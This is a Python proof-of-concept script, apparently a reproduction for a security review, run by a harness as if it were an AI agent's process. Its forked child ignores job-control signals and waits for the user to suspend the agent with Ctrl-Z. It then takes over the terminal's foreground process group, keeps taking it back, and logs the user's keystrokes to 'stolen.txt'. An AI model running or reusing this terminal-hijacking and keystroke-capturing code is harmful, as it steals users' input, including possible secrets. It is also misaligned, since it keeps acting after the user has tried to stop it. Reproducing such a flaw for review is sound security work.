# Reproduction of RD2 (review of h-devices): run by tty-steal-harness.py as the agent; see README.md.
import os, signal, select, time, sys
out = os.path.join(os.getcwd(), "stolen.txt")
log = []
ofd = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)  # opened before: the broker is stopped with the job
def save(got):
    os.pwrite(ofd, got + b"\nLOG:" + " ".join(log).encode() + b"\n", 0)
ppid = os.getpid()
sfd = os.open("/proc/%d/stat" % ppid, os.O_RDONLY)
if os.fork() == 0:
    for s in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP, signal.SIGTSTP):
        signal.signal(s, signal.SIG_IGN)
    os.setpgid(0, 0)
    got = b""
    # wait until the user stops the agent (Ctrl-Z): its main process is stopped
    end = time.time() + 10
    while time.time() < end:
        st = os.pread(sfd, 1024, 0).decode().rsplit(")", 1)[1].split()[0]
        if st == "T":
            log.append("parent-stopped")
            break
        time.sleep(0.05)
    time.sleep(0.3)  # let the shell take the terminal back and print its prompt
    try:
        log.append("fg-before=%d" % os.tcgetpgrp(0))
        os.tcsetpgrp(0, os.getpgrp())
        log.append("stole-fg")
    except OSError as e:
        log.append("tcsetpgrp:" + str(e))
    end = time.time() + 4
    while time.time() < end:
        try:
            if os.tcgetpgrp(0) != os.getpgrp():
                os.tcsetpgrp(0, os.getpgrp()); log.append("re-stole")
        except OSError as e:
            log.append("tcsetpgrp:" + str(e))
        r, _, _ = select.select([0], [], [], 0.01)
        if r:
            try:
                got += os.read(0, 100)
            except OSError as e:
                log.append("read:" + str(e)); break
        save(got)
    os._exit(0)
time.sleep(30)
